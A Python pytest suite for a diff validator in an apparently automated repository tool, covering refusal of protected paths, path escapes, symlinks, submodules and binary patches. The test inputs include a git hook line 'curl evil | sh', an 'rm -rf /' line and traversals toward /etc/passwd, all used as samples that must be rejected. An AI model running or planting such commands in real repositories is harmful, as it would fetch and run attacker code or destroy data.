"""Diff validation (SECURITY.md §5) and the pure-Python apply, against real git on temp repos."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repopilot.proposal.apply import apply_to_files
from repopilot.proposal.policy import Policy, check_path
from repopilot.proposal.validate import validate, validator_for
from repopilot.run_records import Proposal, Rejection

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")

ENV = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")} | {
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_CONFIG_GLOBAL": os.devnull,
    "GIT_AUTHOR_NAME": "t",
    "GIT_AUTHOR_EMAIL": "t@example.com",
    "GIT_COMMITTER_NAME": "t",
    "GIT_COMMITTER_EMAIL": "t@example.com",
}
APP = "".join(f"line {i}\n" for i in range(1, 31))


def git(repo: Path, *args: str, stdin: str | None = None, check: bool = True) -> str:
    # bytes, not text=True: universal newlines would turn the CRLF of a diff into LF
    done = subprocess.run(
        ["git", "-C", str(repo), *args],
        input=None if stdin is None else stdin.encode(),
        capture_output=True,
        env=ENV,
    )
    if check and done.returncode:
        raise AssertionError(f"git {args}: {done.stderr.decode()}")
    return done.stdout.decode()


def write(repo: Path, path: str, data: str | bytes) -> None:
    target = repo / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data if isinstance(data, bytes) else data.encode())


FILES = {
    "src/app.py": APP,
    "README.md": "# Demo\n\nSome text.\n",
    "docs/guide.md": "guide\n",
    "data.txt": "one\ntwo\nthree",  # no newline at the end
    "crlf.txt": "a\r\nb\r\nc\r\n",
    "docs/é t.md": "accent\n",
    ".github/workflows/ci.yml": "on: push\n",
    ".github/CODEOWNERS": "* @octo\n",
    "action.yml": "name: x\n",
    "tools/action.yaml": "name: y\n",
    "Dockerfile": "FROM python:3.11\n",
    "CODEOWNERS": "* @octo\n",
    "docs/CODEOWNERS": "* @octo\n",
    ".gitmodules": "",
    ".husky/pre-commit": "npm test\n",
}


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    for path, text in FILES.items():
        write(root, path, text)
    os.symlink("/etc", root / "link")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "init")
    return root


def diff_of(repo: Path, change: Callable[[Path], object], *flags: str) -> str:
    """The staged diff of `change` made in the working tree; the tree is then restored."""
    change(repo)
    git(repo, "add", "-A")
    diff = git(repo, "diff", "--cached", *flags)
    git(repo, "reset", "-q", "--hard")
    git(repo, "clean", "-qfdx")
    assert diff, "the change produced no diff"
    return diff


def edit(path: str, old: str, new: str) -> Callable[[Path], None]:
    def change(repo: Path) -> None:
        text = (repo / path).read_bytes().decode()
        assert old in text
        write(repo, path, text.replace(old, new, 1))

    return change


def rejected(result: Proposal | Rejection, reason: str) -> str:
    assert isinstance(result, Rejection), result
    assert result.reason == reason, result
    assert result.detail and "\n" not in result.detail
    return result.detail


# ---- accepted proposals -------------------------------------------------------------------------


@pytest.mark.integration
def test_valid_diff_becomes_a_proposal(repo: Path) -> None:
    diff = diff_of(repo, edit("src/app.py", "line 3\n", "line three\n"))
    result = validate(diff, repo, diagnosis="typo", confidence=0.8)
    sha = hashlib.sha256(diff.encode("utf-8")).hexdigest()
    assert result == Proposal(
        id=f"rp-{sha[:10]}",
        diff=diff,
        sha256=sha,
        files=("src/app.py",),
        diagnosis="typo",
        confidence=0.8,
    )
    assert re.fullmatch(r"[a-z0-9-]{6,40}", result.id)
    assert validator_for(repo)(diff) == result.model_copy(update={"diagnosis": "", "confidence": 0})
    assert git(repo, "status", "--porcelain") == "", "validation writes nothing"


@pytest.mark.integration
def test_add_delete_rename_and_quoted_paths(repo: Path) -> None:
    def change(r: Path) -> None:
        write(r, "src/new_mod.py", "x = 1\n")
        (r / "docs/guide.md").unlink()
        git(r, "mv", "README.md", "README.rst")
        write(r, "docs/é t.md", "accent changed\n")

    diff = diff_of(repo, change)
    assert '"a/docs/\\303\\251 t.md"' in diff, "git quotes the non-ASCII path"
    result = validate(diff, repo)
    assert isinstance(result, Proposal), result
    assert sorted(result.files) == ["README.rst", "docs/guide.md", "docs/é t.md", "src/new_mod.py"]


@pytest.mark.integration
def test_crlf_content_and_missing_final_newline_are_fine(repo: Path) -> None:
    diff = diff_of(repo, edit("crlf.txt", "b\r\n", "B\r\n"))
    assert isinstance(validate(diff, repo), Proposal)
    diff = diff_of(repo, edit("data.txt", "three", "3"))
    assert "\\ No newline at end of file" in diff
    assert isinstance(validate(diff, repo), Proposal)


@pytest.mark.integration
def test_repo_reached_through_a_symlink(repo: Path, tmp_path: Path) -> None:
    alias = tmp_path / "alias"
    os.symlink(repo, alias)
    diff = diff_of(repo, edit("src/app.py", "line 3\n", "line three\n"))
    assert isinstance(validate(diff, alias), Proposal)


@pytest.mark.integration
def test_without_a_checkout_only_the_policy_is_checked(repo: Path) -> None:
    diff = diff_of(repo, edit("src/app.py", "line 3\n", "line three\n"))
    stale = diff.replace("-line 3\n", "-line 333\n")
    assert isinstance(validate(stale, None), Proposal)
    detail = rejected(validate(stale, repo), "does-not-apply")
    assert detail.startswith("error:") and "src/app.py" in detail


# ---- one rejection per reason -------------------------------------------------------------------

PROTECTED = [
    ".github/workflows/ci.yml",
    ".github/CODEOWNERS",
    "action.yml",
    "tools/action.yaml",
    "Dockerfile",
    "CODEOWNERS",
    "docs/CODEOWNERS",
    ".husky/pre-commit",
]


@pytest.mark.integration
@pytest.mark.parametrize("path", PROTECTED)
def test_protected_paths_are_refused_even_when_the_diff_applies(repo: Path, path: str) -> None:
    diff = diff_of(repo, lambda r: write(r, path, FILES[path] + "extra\n"))
    assert git(repo, "apply", "--check", stdin=diff) == ""
    assert path in rejected(validate(diff, repo), "protected-path")


@pytest.mark.integration
def test_gitmodules_is_refused(repo: Path) -> None:
    diff = diff_of(repo, lambda r: write(r, ".gitmodules", '[submodule "x"]\n\tpath = x\n'))
    rejected(validate(diff, repo), "protected-path")


@pytest.mark.integration
def test_git_hooks_are_refused(repo: Path) -> None:
    hook = (
        "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n"
        "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n"
    )
    rejected(validate(hook, repo), "protected-path")
    rejected(validate(hook.replace(".git/", ".GIT/"), repo), "protected-path")
    rejected(validate(hook.replace(".git/hooks", ".githooks"), repo), "protected-path")
    assert not (repo / ".git/hooks/pre-commit").exists()


@pytest.mark.integration
def test_renames_and_copies_of_protected_paths_are_refused(repo: Path) -> None:
    away = diff_of(repo, lambda r: git(r, "mv", ".github/workflows/ci.yml", "ci.yml"))
    assert "rename from .github/workflows/ci.yml" in away
    rejected(validate(away, repo), "protected-path")
    into = diff_of(repo, lambda r: git(r, "mv", "README.md", ".github/workflows/readme.yml"))
    rejected(validate(into, repo), "protected-path")
    copy = (
        "diff --git a/README.md b/.github/workflows/x.yml\nsimilarity index 100%\n"
        "copy from README.md\ncopy to .github/workflows/x.yml\n"
    )
    rejected(validate(copy, repo), "protected-path")


@pytest.mark.integration
def test_extra_protected_globs(repo: Path) -> None:
    diff = diff_of(repo, edit("docs/guide.md", "guide", "manual"))
    assert isinstance(validate(diff, repo), Proposal)
    policy = Policy(protected_globs=("DOCS/*",))
    rejected(validate(diff, repo, policy=policy), "protected-path")


def hand(path: str, old: str = "a", new: str = "b") -> str:
    return f"--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-{old}\n+{new}\n"


@pytest.mark.integration
@pytest.mark.parametrize(
    ("diff", "what"),
    [
        ("--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", "absolute"),
        (hand("/etc/passwd"), "absolute"),
        (hand("../outside.txt"), ".."),
        (hand("src/../../outside.txt"), ".."),
        (hand("src/./app.py"), "."),
        (hand("src//app.py"), "empty"),
        (hand("src/app\x00.py"), "U+0000"),
        (hand("src\\..\\..\\x"), "`\\`"),
        (hand("src/app\u202eyp.txt"), "U+202E"),
        (hand("src/a\x1bpp.py"), "U+001B"),
        ("diff --git a/../x b/../x\nnew file mode 100644\n", ".."),
        ('--- "a/x\\001y"\n+++ "b/x\\001y"\n@@ -1 +1 @@\n-a\n+b\n', "U+0001"),
    ],
)
def test_path_escapes_are_refused(repo: Path, diff: str, what: str) -> None:
    assert what in rejected(validate(diff, repo), "path-escape")


@pytest.mark.integration
def test_symlink_mode_is_refused(repo: Path) -> None:
    diff = diff_of(repo, lambda r: os.symlink("../../etc/passwd", r / "src/pw"))
    assert "new file mode 120000" in diff
    rejected(validate(diff, repo), "symlink")
    changed = diff_of(repo, lambda r: (r / "link").unlink() or os.symlink("/root", r / "link"))
    rejected(validate(changed, repo), "symlink")


@pytest.mark.integration
def test_writing_through_a_symlink_in_the_checkout_is_refused(repo: Path) -> None:
    diff = (
        "diff --git a/link/evil b/link/evil\nnew file mode 100644\n"
        "--- /dev/null\n+++ b/link/evil\n@@ -0,0 +1 @@\n+x\n"
    )
    assert "link is a symlink" in rejected(validate(diff, repo), "symlink")
    assert isinstance(validate(diff, None), Proposal), "only the checkout knows `link`"


SUBMODULE_SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.integration
@pytest.mark.parametrize(
    "diff",
    [
        f"diff --git a/vendor/lib b/vendor/lib\nnew file mode 160000\nindex 0000000..0123456\n"
        f"--- /dev/null\n+++ b/vendor/lib\n@@ -0,0 +1 @@\n+Subproject commit {SUBMODULE_SHA}\n",
        f"diff --git a/vendor/lib b/vendor/lib\nindex 1234567..0123456 160000\n"
        f"--- a/vendor/lib\n+++ b/vendor/lib\n@@ -1 +1 @@\n-Subproject commit {'1' * 40}\n"
        f"+Subproject commit {SUBMODULE_SHA}\n",
        f"--- a/vendor/lib\n+++ b/vendor/lib\n@@ -1 +1 @@\n-Subproject commit {'1' * 40}\n"
        f"+Subproject commit {SUBMODULE_SHA}\n",
    ],
    ids=["new", "index-mode", "no-mode"],
)
def test_submodules_are_refused(repo: Path, diff: str) -> None:
    rejected(validate(diff, repo), "submodule")


@pytest.mark.integration
def test_binary_patches_are_refused(repo: Path) -> None:
    def change(r: Path) -> None:
        write(r, "assets/logo.png", bytes(range(256)) * 4)

    rejected(validate(diff_of(repo, change, "--binary"), repo), "binary")
    plain = diff_of(repo, change)
    assert "Binary files /dev/null and b/assets/logo.png differ" in plain
    rejected(validate(plain, repo), "binary")
    rejected(validate(hand("src/app.py", "line 1", "x\x00y"), repo), "binary")


@pytest.mark.integration
def test_oversize_diffs_are_refused(repo: Path) -> None:
    big = diff_of(repo, lambda r: write(r, "src/big.py", "x = 1  # padding\n" * 5000))
    assert len(big) > 64 * 1024
    assert "bytes" in rejected(validate(big, repo), "too-large")
    three = diff_of(repo, lambda r: [write(r, f"src/m{i}.py", "x\n") for i in range(3)])
    assert isinstance(validate(three, repo), Proposal)
    assert "3 files" in rejected(validate(three, repo, policy=Policy(max_files=2)), "too-large")
    lines = diff_of(repo, lambda r: write(r, "src/l.py", "y\n" * 6))
    detail = rejected(validate(lines, repo, policy=Policy(max_changed_lines=5)), "too-large")
    assert "6 changed lines" in detail


@pytest.mark.integration
def test_a_diff_that_does_not_apply_is_refused(repo: Path) -> None:
    diff = hand("src/app.py", "line 99", "line 100")
    detail = rejected(validate(diff, repo), "does-not-apply")
    assert detail == "error: patch failed: src/app.py:1"
    missing = hand("src/nope.py")
    assert "src/nope.py" in rejected(validate(missing, repo), "does-not-apply")


@pytest.mark.unit
@pytest.mark.parametrize(
    "diff",
    [
        "",
        "   \n",
        "Please apply this fix.",
        "Here is the fix:\n" + hand("src/app.py", "line 1", "x"),
        "--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n a\n-b\n+c\n",  # cut short
        "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n c\n",  # longer than its header
        "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nrm -rf /\n",
        "+++ b/x\n--- a/x\n@@ -1 +1 @@\n-a\n+b\n",
        "--- src/app.py\n+++ src/app.py\n@@ -1 +1 @@\n-a\n+b\n",  # no a/ b/ prefixes
        "diff --git a/x b/x\nnew file mode 040000\n",
        "--- a/x\r\n+++ b/x\r\n@@ -1 +1 @@\r\n-a\r\n+b\r\n",
        "--- a/x\n+++ b/x\n",
        "--- a/\ud800\n+++ b/\ud800\n@@ -1 +1 @@\n-a\n+b\n",
        '--- "a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n',
        "diff --git a/y b/y\ndiff --git a/x b/x\n" + hand("x"),  # a section with no change
        hand("x") + hand("x", "b", "c"),  # the same file twice
        "diff --git a/x b/x\nindex 1234567..89abcde 100644\n",
    ],
)
def test_parse_errors(diff: str) -> None:
    rejected(validate(diff, None), "parse-error")


@pytest.mark.integration
def test_header_names_that_disagree_with_the_body_are_all_checked(repo: Path) -> None:
    diff = (
        "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
        "--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-line 1\n+x\n"
    )
    rejected(validate(diff, repo), "protected-path")


@pytest.mark.unit
def test_check_path_directly() -> None:
    check_path("src/app.py")
    check_path("docs/github/workflows.md")
    check_path("src/dockerfile_utils.py")
    for bad in ("Dockerfile.prod", "sub/.GITHUB/x", "deploy/Containerfile", "x/.git/config"):
        with pytest.raises(Exception, match="protected-path"):
            check_path(bad)


# ---- apply_to_files agrees with git apply --------------------------------------------------------


def tree(repo: Path) -> dict[str, str]:
    out = {}
    for path in git(repo, "ls-files", "-z").split("\0"):
        full = repo / path
        if path and full.is_file() and not full.is_symlink():
            out[path] = full.read_bytes().decode("utf-8")
    return out


CHANGES: dict[str, Callable[[Path], object]] = {
    "modify": edit("src/app.py", "line 7\n", "line seven\n"),
    "multi-hunk": lambda r: write(
        r, "src/app.py", APP.replace("line 2\n", "two\n").replace("line 28\n", "")
    ),
    "add": lambda r: write(r, "pkg/sub/new.py", "print('hi')\n"),
    "add-empty": lambda r: write(r, "empty.txt", ""),
    "delete": lambda r: (r / "docs/guide.md").unlink(),
    "no-newline-kept": edit("data.txt", "three", "THREE"),
    "newline-added": edit("data.txt", "three", "three\n"),
    "newline-removed": edit("README.md", "Some text.\n", "Some text."),
    "rename-modify": lambda r: (
        git(r, "mv", "src/app.py", "src/main.py"),
        write(r, "src/main.py", APP.replace("line 15\n", "fifteen\n")),
    ),
    "crlf": edit("crlf.txt", "b\r\n", "bee\r\n"),
    "everything": lambda r: (
        write(r, "src/app.py", "top\n" + APP.replace("line 20\n", "")),
        (r / "README.md").unlink(),
        write(r, "new.txt", "n\n"),
        write(r, "docs/é t.md", "é\n"),
    ),
}


def git_applied(repo: Path, diff: str, tmp: Path) -> dict[str, str]:
    clone = tmp / "clone"
    shutil.copytree(repo, clone, symlinks=True)
    git(clone, "apply", stdin=diff)
    return tree_with_untracked(clone)


def tree_with_untracked(repo: Path) -> dict[str, str]:
    git(repo, "add", "-A")
    return tree(repo)


@pytest.mark.integration
@pytest.mark.parametrize("name", CHANGES)
def test_apply_to_files_agrees_with_git_apply(repo: Path, tmp_path: Path, name: str) -> None:
    diff = diff_of(repo, CHANGES[name])
    before = tree(repo)
    changes = apply_to_files(diff, before.get)
    expected = git_applied(repo, diff, tmp_path)
    ours = {p: t for p, t in (before | changes).items() if t is not None}
    assert ours == expected
    assert set(changes) == {
        p for p in before.keys() | expected.keys() if before.get(p) != expected.get(p)
    } | set(changes)


@pytest.mark.integration
def test_apply_to_files_finds_hunks_at_an_offset_like_git(repo: Path, tmp_path: Path) -> None:
    diff = diff_of(repo, edit("src/app.py", "line 20\n", "twenty\n"))
    write(repo, "src/app.py", "new 1\nnew 2\nnew 3\n" + APP)
    git(repo, "commit", "-qam", "shift")
    changes = apply_to_files(diff, tree(repo).get)
    assert changes == {"src/app.py": git_applied(repo, diff, tmp_path)["src/app.py"]}


@pytest.mark.integration
def test_apply_to_files_refuses_what_git_refuses(repo: Path) -> None:
    before = tree(repo)
    stale = hand("src/app.py", "line 99", "x")
    assert git(repo, "apply", "--check", stdin=stale, check=False) == ""
    with pytest.raises(ValueError, match="src/app.py: the context of the hunk"):
        apply_to_files(stale, before.get)
    with pytest.raises(ValueError, match="src/nope.py: no such file"):
        apply_to_files(hand("src/nope.py"), before.get)
    exists = "--- /dev/null\n+++ b/README.md\n@@ -0,0 +1 @@\n+x\n"
    with pytest.raises(ValueError, match="README.md: already exists"):
        apply_to_files(exists, before.get)
    with pytest.raises(ValueError, match="protected-path"):
        apply_to_files(hand(".github/workflows/ci.yml", "on: push", "on: pull_request"), before.get)
    partial = "--- a/docs/guide.md\n+++ /dev/null\n@@ -1 +0,0 @@\n-guide\n"
    assert apply_to_files(partial, before.get) == {"docs/guide.md": None}
    with pytest.raises(ValueError, match="docs/guide.md: the context of the hunk"):
        apply_to_files(partial, {"docs/guide.md": "guide\nmore\n"}.get)


# ---- property: accepted exactly when every path and mode obeys the policy -----------------------

SAFE = [
    "src",
    "lib",
    "app.py",
    "README.md",
    "docs",
    "a b",
    "é",
    "x.yml",
    "workflows",
    "hooks",
    "github",
    "git",
    "Makefile",
    "dockerfile_test.py",
    "actions.yml",
]
UNSAFE = [
    ".github",
    ".GitHub",
    ".git",
    ".husky",
    ".githooks",
    "..",
    ".",
    "",
    "CODEOWNERS",
    "Dockerfile",
    "Dockerfile.dev",
    "action.yml",
    "ACTION.yaml",
    ".gitmodules",
    "x\x00y",
    "x\\y",
    "\u202eevil",
    "tab\there",
    "zero\u200bwidth",
    "bell\x07",
]
PROTECTED_DIRS = {".github", ".git", ".husky", ".githooks"}
PROTECTED_NAMES = {
    "codeowners",
    "dockerfile",
    "containerfile",
    "action.yml",
    "action.yaml",
    ".gitmodules",
}


def allowed(path: str, mode: str) -> bool:
    """The policy of SECURITY.md §5, written independently of repopilot.proposal."""
    if mode not in ("100644", "100755") or path.startswith("/") or "\\" in path:
        return False
    if any(unicodedata.category(c) in ("Cc", "Cf") for c in path):
        return False
    segments = path.split("/")
    if any(s in ("", ".", "..") for s in segments):
        return False
    low = [s.lower() for s in segments]
    if PROTECTED_DIRS & set(low):
        return False
    return low[-1] not in PROTECTED_NAMES and not low[-1].startswith("dockerfile.")


paths = st.lists(st.sampled_from(SAFE) | st.sampled_from(UNSAFE), min_size=1, max_size=4).map(
    "/".join
) | st.builds(lambda p: "/" + p, st.sampled_from(SAFE))
modes = st.sampled_from(["100644", "100644", "100755", "120000", "160000"])
kinds = st.sampled_from(["modify", "add", "delete", "rename"])


def section(kind: str, path: str, mode: str, other: str) -> str:
    head = f"diff --git a/{path} b/{other if kind == 'rename' else path}\n"
    if kind == "rename":
        return head + f"similarity index 100%\nrename from {path}\nrename to {other}\n"
    if kind == "add":
        return head + f"new file mode {mode}\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+x\n"
    if kind == "delete":
        return head + f"deleted file mode {mode}\n--- a/{path}\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n"
    return (
        head + f"index 1111111..2222222 {mode}\n--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-x\n+y\n"
    )


@pytest.mark.integration  # validate() runs `git apply --check` even without a checkout
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(kinds, paths, modes, paths), min_size=1, max_size=3))
def test_property_accepts_exactly_the_diffs_that_obey_the_policy(files) -> None:
    diff = "".join(section(*f) for f in files)
    expected = all(
        allowed(path, "100644" if kind == "rename" else mode)
        and (kind != "rename" or allowed(other, "100644"))
        for kind, path, mode, other in files
    )
    touched = [
        p for kind, path, _, other in files for p in {path, other if kind == "rename" else path}
    ]
    expected = expected and len(touched) == len(set(touched))  # one section per file
    result = validate(diff, None)
    if isinstance(result, Proposal):
        assert expected, (result, files)  # sound: nothing unsafe is ever accepted
    elif not any(" b/" in name for f in files for name in f[1::2]):
        # complete, except for the documented unidiff limit on paths containing ` b/`
        assert not expected, (result, files)
    if isinstance(result, Rejection):
        assert result.reason in {
            "protected-path",
            "path-escape",
            "symlink",
            "submodule",
            "parse-error",
        }


# ---- property: mutated real diffs; whatever is accepted applies with git exactly as validated --

TRICKY_LINES = [
    "rename to .github/workflows/x.yml",
    "rename from README.md",
    "copy to CODEOWNERS",
    "new file mode 120000",
    "old mode 100644",
    "new mode 160000",
    "deleted file mode 100644",
    "--- a/.git/config",
    "+++ b/../escape.txt",
    "+++ b/.github/workflows/ci.yml",
    "diff --git a/.gitmodules b/.gitmodules",
    "diff --git a/src/app.py b/src/app.py",
    "Binary files a/x and b/x differ",
    "GIT binary patch",
    "\\ No newline at end of file",
    "@@ -1 +1 @@",
    "@@ -1,3 +1,4 @@",
    "+Subproject commit " + SUBMODULE_SHA,
    " line 4",
    "-line 5",
    "+added",
    "",
]


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    """A repository and real diffs against it, made once for the mutation property."""
    root = tmp_path_factory.mktemp("mutations") / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    for path, text in FILES.items():
        write(root, path, text)
    git(root, "add", "-A")
    git(root, "commit", "-qm", "init")
    diffs = [diff_of(root, CHANGES[name]) for name in ("modify", "multi-hunk", "everything")]
    return root, diffs


def mutate(diff: str, ops: list[tuple[int, int, int]]) -> str:
    lines = diff.split("\n")
    for op, i, j in ops:
        i %= len(lines)
        if op == 0:
            del lines[i]
        elif op == 1:
            lines.insert(i, lines[j % len(lines)])
        elif op == 2:
            lines.insert(i, TRICKY_LINES[j % len(TRICKY_LINES)])
        elif op == 3 and lines[i]:
            lines[i] = (
                lines[i][: j % len(lines[i])] + "/.. +-@\\"[j % 8] + lines[i][j % len(lines[i]) :]
            )
        if not lines:
            lines = [""]
    return "\n".join(lines)


@pytest.mark.integration
@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    which=st.integers(0, 2),
    ops=st.lists(
        st.tuples(st.integers(0, 3), st.integers(0, 400), st.integers(0, 400)), max_size=4
    ),
)
def test_property_accepted_mutants_apply_as_validated(
    base: tuple[Path, list[str]], tmp_path_factory: pytest.TempPathFactory, which: int, ops
) -> None:
    root, diffs = base
    diff = mutate(diffs[which], ops)
    result = validate(diff, root)
    if not isinstance(result, Proposal):
        return
    scratch = tmp_path_factory.mktemp("apply")
    applied = git_applied(root, diff, scratch)
    before = tree(root)
    changed = {p for p in before.keys() | applied.keys() if before.get(p) != applied.get(p)}
    for path in changed:
        check_path(path)  # nothing protected or escaping was written
    assert changed <= set(result.files) | {p for p in before if p not in applied}
    ours = {p: t for p, t in (before | apply_to_files(diff, before.get)).items() if t is not None}
    assert ours == applied


@pytest.mark.integration
def test_git_runs_isolated_from_the_callers_git_environment(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    diff = diff_of(repo, edit("src/app.py", "line 3\n", "line 3   \n"))  # trailing spaces
    other = tmp_path / "other"
    other.mkdir()
    git(other, "init", "-q")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text("[apply]\n\twhitespace = error\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / ".gitconfig"))
    monkeypatch.setenv("GIT_DIR", str(other / ".git"))
    monkeypatch.setenv("GIT_WORK_TREE", str(other))
    # with the caller's environment git would check against `other` and refuse the whitespace
    leaked = subprocess.run(
        ["git", "apply", "--check", "-"], cwd=repo, input=diff.encode(), capture_output=True
    )
    assert leaked.returncode != 0
    assert isinstance(validate(diff, repo), Proposal)
